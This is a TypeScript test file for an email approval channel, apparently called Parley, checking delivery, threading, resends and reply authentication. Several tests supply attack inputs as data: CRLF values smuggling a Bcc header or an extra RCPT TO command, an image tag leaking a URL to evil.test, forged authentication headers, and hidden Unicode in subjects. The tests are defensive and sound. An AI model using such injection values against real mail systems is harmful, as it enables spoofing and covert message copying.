import { describe, expect, test } from "vitest";
import { exampleCard } from "../testing/example-card.ts";
import { channelSuite, type ChannelHarness } from "../testing/channel.testsuite.ts";
import { senderOf } from "./connections.ts";
import { EmailSettings, type EmailSecrets } from "./schema.ts";
import { openEmailHarness, readTaken, replyTo } from "./testing/open-email-harness.ts";

type Harness = ChannelHarness<EmailSettings, EmailSecrets>;

/** Addresses that can be pressed, without what says which button it was. */
const addressesIn = (html: string): string[] =>
  [...html.matchAll(/href="([^"]*)"/gu)].map(([, href = ""]) => href);
const linksOf = (html: string): string[] => [
  ...new Set(addressesIn(html).map((href) => href.split("?")[0] ?? "")),
];

channelSuite("email", async (): Promise<Harness> => {
  const harness = await openEmailHarness();
  return Object.assign(harness, {
    read: async () => {
      const mails = await Promise.all(harness.server.mails.map(readTaken));
      return mails.map(({ text, html }) => ({ text: text ?? "", mentions: [], links: linksOf(html ?? "") }));
    },
    decide: async (_posted: unknown, act: "approve" | "deny") => {
      const [taken] = harness.server.mails;
      if (taken === undefined) throw new Error("nothing was sent");
      return replyTo(taken, { text: act === "approve" ? "Yes" : "No" });
    },
    forge: (inbound: Parameters<Harness["forge"]>[0]) => {
      if (inbound.type !== "mail") return inbound;
      const raw = Buffer.from(inbound.raw).toString().replace("mx.parley.test;", "mx.evil.test;");
      return { ...inbound, raw: Buffer.from(raw) };
    },
    // SMTP has words for it, and none for how long.
    limitNext: () => harness.server.refuseNext(451, "4.7.1 Too many messages: try again later"),
    saysHowLong: false,
  });
});

const open = async (given?: Record<string, unknown>) => {
  const harness = await openEmailHarness(given);
  const { channel, setup, server, place } = harness;
  const card = (changes?: Parameters<typeof exampleCard>[1]) =>
    exampleCard(channel.capabilities.limits, changes);
  return Object.assign(harness, {
    card,
    notify: (options: Record<string, unknown> = {}, changes?: Parameters<typeof exampleCard>[1]) =>
      channel.notify(harness.tools(), setup, { card: card(changes), place, options }),
    mail: async (index = 0) => {
      const taken = server.mails[index];
      if (taken === undefined) throw new Error(`there is no mail ${index}`);
      return { taken, ...(await readTaken(taken)) };
    },
  });
};
const header = (mail: { headers: readonly { name: string; value: string }[] }, name: string) =>
  mail.headers.find((each) => each.name === name)?.value;

describe("asking", () => {
  test("one mail to each, who see each other and answer for themselves", async () => {
    await using harness = await open();
    const posted = await harness.notify({
      additional_recipients: [
        { address: "Lead <lead@example.com>", field: "cc" },
        { address: "audit@example.com", field: "bcc" },
        { address: "ann@example.com" },
      ],
    });
    // Each by whom it was asked of, and by itself.
    expect(posted.keys).toHaveLength(6);
    expect(harness.server.mails.map(({ recipients }) => recipients)).toEqual([
      ["ann@example.com"],
      ["lead@example.com"],
      ["audit@example.com"],
    ]);
    const mails = await Promise.all([0, 1, 2].map((index) => harness.mail(index)));
    expect(mails[0]?.text).toContain("Stakes: medium");
    expect(mails[0]?.html).toContain("Stakes: medium");
    for (const mail of mails) {
      expect(header(mail, "to")).toBe("ann@example.com");
      expect(header(mail, "cc")).toBe("lead@example.com");
      expect(mail.taken.raw.toString()).not.toContain("Bcc");
    }
    expect(new Set(mails.map((mail) => header(mail, "reply-to"))).size).toBe(3);
  });

  test("the installation's own mail server sends from its own address, under the channel's name", () => {
    const ownServer = { server: {} as never, from: "Parley <parley@parley.test>" };
    const from = (smtp: object | null) =>
      senderOf({
        tools: {} as never,
        setup: {
          settings: EmailSettings.parse({ from: "Board <ceo@customer.test>", smtp }),
          secrets: {},
        },
        connections: { ownServer, resolveHost: async (host) => host },
      });
    expect(from(null)).toBe("Board <parley@parley.test>");
    expect(from({ host: "mail.customer.test" })).toBe("Board <ceo@customer.test>");
  });

  test.each([
    [{ subject: "Re: Deploy?", in_reply_to_message_id: "<x1@example.org>" }],
    [
      {
        experimental_subject_line: "Re: Deploy?",
        experimental_in_reply_to_message_id: "<x1@example.org>",
        experimental_references_message_id: "<x1@example.org>",
      },
    ],
    [{ subject: "Re: Deploy?", in_reply_to: "<x1@example.org>" }],
  ])("in the thread that the request names: %o", async (options) => {
    await using harness = await open();
    await harness.notify(options);
    const mail = await harness.mail();
    expect(mail).toMatchObject({
      subject: "Re: Deploy?",
      inReplyTo: ["<x1@example.org>"],
      references: ["<x1@example.org>"],
    });
    expect(header(mail, "auto-submitted")).toBe("auto-generated");
  });

  test("no header can be smuggled in", async () => {
    await using harness = await open();
    await harness.notify(
      {
        subject: "Hello\r\nBcc: evil@example.com\r\n\r\nbody",
        in_reply_to: "<a@b>\r\nBcc: evil@example.com",
      },
      { runId: "x\r\nBcc: evil@example.com" },
    );
    const mail = await harness.mail();
    expect(mail.taken.recipients).toEqual(["ann@example.com"]);
    expect(header(mail, "bcc")).toBeUndefined();
    expect(mail.subject).toBe("Hello Bcc: evil@example.com body");
  });

  test("nothing hides in a subject of the request's own", async () => {
    await using harness = await open();
    await harness.notify({ subject: "Pay\u00AD \u202Egpj\u200F" });
    expect((await harness.mail()).subject).toBe("Pay⟨U+00AD⟩ ⟨U+202E⟩gpj⟨U+200F⟩");
  });

  test("a template of the request's own, whose links open the page", async () => {
    await using harness = await open();
    const template = `<h1>{{ event.spec.fn }}</h1>{% for k, v in event.spec.kwargs.items() %}<p>{{ k }}: {{ v }}</p>{% endfor %}
<a href="{{ urls.base_url }}?approve=true">ok</a> {{ type }} {{ event.run_id }} {{ event.spec.state.nothing or "-" }}`;
    await harness.notify({ template }, { args: { order: "<b>7</b>", list: [1, 2] } });
    const { html } = await harness.mail();
    expect(html).toContain("<h1>refund</h1><p>list: [1, 2]</p><p>order: &lt;b&gt;7&lt;&#x2f;b&gt;</p>");
    expect(html).toContain('href="https:&#x2f;&#x2f;parley.example&#x2f;approvals&#x2f;apr_1?approve=true"');
    expect(html).toContain("v1beta2.function_call run-1 -");
  });

  test("a template gets no link by which somebody decides, and what it shows counts as nobody's words but its own", async () => {
    await using harness = await open();
    const { channel, setup, place } = harness;
    const template = `<img src="https://evil.test/?{{ urls.base_url }}">`;
    const own = "https://parley.example/decide/abc";
    const posted = await channel.notify(harness.tools(), setup, {
      card: harness.card(),
      place,
      options: { template },
      linkFor: async () => own,
    });
    const { html, text } = await harness.mail();
    expect(html).not.toContain("decide");
    expect(text).toContain(own);
    expect(text).toContain("Approving this one takes the link");
    expect(posted.showsCard).toBe(false);
  });

  test("who has no link of their own gets one to the inbox, and none by which to decide", async () => {
    await using harness = await open();
    const { channel, setup, place } = harness;
    const inbox = harness.card().link;
    const own = "https://parley.example/decide/abc";
    for (const link of [undefined, own])
      await channel.notify(harness.tools(), setup, {
        card: harness.card({ stakes: "high" }),
        place,
        options: {},
        linkFor: async () => link,
      });
    const [without, withOwn] = await Promise.all([harness.mail(0), harness.mail(1)]);
    expect(without?.text?.match(/https:\S+/gu)).toEqual([inbox]);
    expect(addressesIn(without?.html ?? "")).toEqual([inbox]);
    expect(addressesIn(withOwn?.html ?? "").filter((href) => !href.includes("option"))).toEqual([
      `${own}?approve=true`,
      `${own}?reject=true`,
      own,
    ]);
  });

  test("a template that does not work says so and sends nothing", async () => {
    await using harness = await open();
    await expect(harness.notify({ template: "{% for %}" })).rejects.toMatchObject({ kind: "misconfigured" });
    expect(harness.server.mails).toEqual([]);
  });

  test("what is no address is refused before anything is sent", async () => {
    await using harness = await open();
    for (const address of ["nobody", "a@b.test, c@d.test", "a@b.test\r\nRCPT TO:<c@d.test>"])
      await expect(harness.notify({ additional_recipients: [{ address }] })).rejects.toMatchObject({
        kind: "misconfigured",
      });
    expect(harness.server.mails).toEqual([]);
  });

  test("a server that is busy may be asked again, one that refuses not", async () => {
    await using harness = await open();
    harness.server.refuseNext(451, "greylisted");
    await expect(harness.notify()).rejects.toMatchObject({ kind: "unreachable" });
    harness.server.refuseNext(550, "no such user");
    await expect(harness.notify()).rejects.toMatchObject({ kind: "misconfigured" });
    await harness.notify();
    expect(harness.exchanges.map(({ status }) => status)).toEqual([null, null, 250]);
  });
});

describe("a mail that was sent and not noted", () => {
  test("can be answered: its keys are kept before it is sent, and sending it again makes the same", async () => {
    await using harness = await open();
    const kept: { keys: readonly string[]; sent: number }[] = [];
    const send = () =>
      harness.channel.notify(harness.tools(), harness.setup, {
        card: harness.card(),
        place: harness.place,
        options: {},
        answering: {
          seed: "what nobody else knows of this delivery",
          keep: async (keys) => void kept.push({ keys, sent: harness.server.mails.length }),
        },
      });
    const posted = await send();
    expect(kept).toEqual([{ keys: posted.keys, sent: 0 }]);
    expect((await send()).keys).toEqual(posted.keys);
    expect((await harness.mail(1)).messageId).toBe((await harness.mail(0)).messageId);
  });

  test("whoever has it already gets it no second time when it is sent again", async () => {
    await using harness = await open();
    const { server } = harness;
    const taken = new Set<string>();
    const answering = {
      seed: "s",
      keep: async () => {},
      parts: {
        isDone: (part: string) => taken.has(part),
        done: async (part: string) => {
          taken.add(part);
          if (taken.size === 1) server.refuseNext(451, "later");
        },
      },
    };
    const posting = {
      card: harness.card(),
      place: harness.place,
      options: { additional_recipients: [{ address: "lead@example.com" }] },
      answering,
    };
    const notify = () => harness.channel.notify(harness.tools(), harness.setup, posting);
    await expect(notify()).rejects.toMatchObject({ kind: "unreachable" });
    const posted = await notify();
    expect(server.mails.map(({ recipients }) => recipients)).toEqual([
      ["ann@example.com"],
      ["lead@example.com"],
    ]);
    expect(posted.message).toMatchObject({
      mails: [{ address: "ann@example.com" }, { address: "lead@example.com" }],
    });
  });

  test("no log holds the token by which it is answered", async () => {
    await using harness = await open();
    await harness.notify();
    const { messageId } = await harness.mail();
    const [, token = ""] = /^<([a-z2-7]{26})\.parley@/u.exec(messageId ?? "") ?? [];
    expect(token).not.toBe("");
    expect(JSON.stringify(harness.exchanges)).toContain("Message-ID: <•••.parley@parley.test>");
    expect(JSON.stringify(harness.exchanges)).not.toContain(token);
  });

  test("is not taken back by another recipient who is refused", async () => {
    await using harness = await open();
    harness.server.refuseNext(550, "no such user");
    const others = ["lead@example.com", "boss@example.com"].map((address) => ({ address }));
    const posted = await harness.notify({ additional_recipients: others });
    expect(posted.message).toMatchObject({
      mails: [{ address: "lead@example.com" }, { address: "boss@example.com" }],
    });
    expect(harness.exchanges.map(({ status }) => status)).toEqual([null, 250, 250]);
  });
});

describe("what became of it", () => {
  test("is told in the thread, to everyone who was asked, and takes no answers", async () => {
    await using harness = await open();
    const { channel, setup, place } = harness;
    const posted = await harness.notify({
      additional_recipients: [{ address: "lead@example.com", field: "cc" }],
    });
    const state = { status: "approved", by: ["Lead"], at: 0, text: null, isEdited: false } as const;
    await channel.update(harness.tools(), setup, {
      card: harness.card({ state }),
      place,
      options: {},
      posted,
    });
    const [asked, , told, toldLead] = await Promise.all([0, 1, 2, 3].map((index) => harness.mail(index)));
    expect(told).toMatchObject({
      subject: `Re: ${asked?.subject}`,
      inReplyTo: [asked?.messageId],
      references: [asked?.messageId],
    });
    expect(told?.text).toContain("refund was approved by Lead.");
    expect(told && header(told, "reply-to")).toBeUndefined();
    expect(toldLead?.taken.recipients).toEqual(["lead@example.com"]);
  });

  test("while it waits, only a note is worth a mail", async () => {
    await using harness = await open();
    const { channel, setup, place } = harness;
    const posted = await harness.notify();
    const update = (note: string | null, warning: string | null = null) => {
      const card = harness.card({ note, warning });
      return channel.update(harness.tools(), setup, { card, place, options: {}, posted });
    };
    expect(await update(null)).toEqual(posted);
    expect(await update(null, "nobody is in the team")).toEqual(posted);
    expect(harness.server.mails).toHaveLength(1);
    expect((await update("blocked for 30 minutes")).keys).toHaveLength(4);
    expect((await harness.mail(1)).text).toContain("blocked for 30 minutes");
  });
});

test("arguments that were changed while it waits are worth a mail", async () => {
  await using harness = await open();
  const { channel, setup, place } = harness;
  const posted = await harness.notify();
  const card = harness.card({ args: { order: "A-7", eur: 3000 }, argsHash: "b".repeat(64) });
  const changed = await channel.update(harness.tools(), setup, { card, place, options: {}, posted });
  expect((await harness.mail(1)).text).toContain("The arguments have changed");
  const again = { card, place, options: {}, posted: changed };
  await channel.update(harness.tools(), setup, again);
  expect(harness.server.mails).toHaveLength(2);
});

describe("answers", () => {
  const receive = async (harness: Awaited<ReturnType<typeof open>>, reply: Parameters<typeof replyTo>[1]) => {
    const posted = await harness.notify();
    const inbound = await replyTo((await harness.mail()).taken, reply);
    return {
      posted,
      inbound,
      received: await harness.channel.receive(harness.tools(), harness.setup, inbound),
    };
  };

  test("name their request, their sender, and what was written", async () => {
    await using harness = await open();
    const { posted, received } = await receive(harness, { text: "Yes, thanks!\n\nAnn" });
    expect(received.events).toEqual([
      {
        type: "words",
        id: "ann@example.com <answer-1@example.com>",
        sender: { id: "ann@example.com", name: "Ann Example" },
        about: { key: posted.keys[0], ofOther: { key: posted.keys[1], mayTell: true } },
        text: "Yes, thanks!",
        mayBeMachine: true,
      },
    ]);
  });

  test("from another address name no request", async () => {
    await using harness = await open();
    const { posted, received } = await receive(harness, { text: "Yes", from: "Bob <bob@example.com>" });
    expect(received.events).toHaveLength(1);
    const about = received.events[0]?.about;
    expect(posted.keys).not.toContain(about?.key);
    expect(about?.ofOther).toEqual({ key: posted.keys[1], mayTell: true });
  });

  test.each([
    ["nothing proves the sender", []],
    ["another domain signed", ["Authentication-Results: mx.parley.test; dkim=pass header.d=evil.test"]],
    [
      "a server that nobody trusts says so",
      ["Authentication-Results: mx.evil.test; dkim=pass header.d=example.com"],
    ],
  ])("are not believed when %s", async (_what, headers) => {
    await using harness = await open();
    await expect(receive(harness, { text: "Yes", headers })).rejects.toMatchObject({ kind: "not_genuine" });
  });

  test.each([
    "Auto-Submitted: auto-replied",
    "List-Id: <x.example.com>",
    "X-Loop: parley.test",
    "Return-Path: <>",
  ])("of machines are ignored: %s", async (line) => {
    await using harness = await open();
    const { received } = await receive(harness, {
      text: "Yes",
      headers: ["Authentication-Results: mx.parley.test; dkim=pass header.d=example.com", line],
    });
    expect(received.events).toEqual([]);
    await received.respond([{ status: "unclear", text: "?" }]);
    expect(harness.server.mails).toHaveLength(1);
  });

  test("that are unclear are answered once, with the links; that one can be answered", async () => {
    await using harness = await open();
    const { posted, received } = await receive(harness, { text: "Yes, but only 20" });
    await received.respond([{ status: "unclear", text: "Nothing was decided.", card: harness.card() }]);
    const mail = await harness.mail(1);
    expect(mail).toMatchObject({ recipients: ["ann@example.com"], inReplyTo: ["<answer-1@example.com>"] });
    expect(mail.text).toContain("Nothing was decided.");
    expect(mail.html).toContain("https://parley.example/approvals/apr_1?approve=true");
    expect(header(mail, "auto-submitted")).toBe("auto-replied");
    const again = await harness.channel.receive(
      harness.tools(),
      harness.setup,
      await replyTo(mail.taken, { text: "Yes", messageId: "<answer-2@example.com>" }),
    );
    expect(again.events).toMatchObject([
      { id: "ann@example.com <answer-2@example.com>", about: { key: posted.keys[0] } },
    ]);
  });

  test("that counted need no words beside what all are told", async () => {
    await using harness = await open();
    const { received } = await receive(harness, { text: "Yes" });
    await received.respond([{ status: "counted", text: "Noted." }]);
    expect(harness.server.mails).toHaveLength(1);
  });

  test.each([
    ["to others, though it is a reply to ours", "To: bob@example.com", []],
    ["to others, though its envelope says it is to us", "To: bob@example.com", ["answer address"]],
  ])("are written to Parley: ignored is what is written %s", async (_what, to, envelope) => {
    await using harness = await open();
    await harness.notify();
    const { taken } = await harness.mail();
    const answer = await replyTo(taken, { text: "Yes" });
    const raw = Buffer.from(answer.raw).toString();
    const answerAddress = /^To: .*?<?([^<>\s]+)>?\r$/mu.exec(raw)?.[1] ?? "";
    const receiveRaw = (text: string) =>
      harness.channel.receive(harness.tools(), harness.setup, {
        ...answer,
        raw: Buffer.from(text),
        recipients: envelope.map(() => answerAddress),
      });
    expect((await receiveRaw(raw.replace(/^To: .*$/mu, to))).events).toEqual([]);
    // Without its tag the address is ours still: some programs take tags away.
    expect((await receiveRaw(raw.replace(/^To: .*$/mu, "To: parley@parley.test"))).events).toHaveLength(1);
    expect(
      (await receiveRaw(raw.replace(/^To: .*$/mu, `${to}\r\nCc: ${answerAddress}`))).events,
    ).toHaveLength(1);
  });

  test("go to no address where none is set", async () => {
    await using harness = await open({ reply_address: null });
    await harness.notify();
    const mail = await harness.mail();
    expect(header(mail, "reply-to")).toBeUndefined();
    expect(mail.text).not.toContain("Reply with");
  });
});
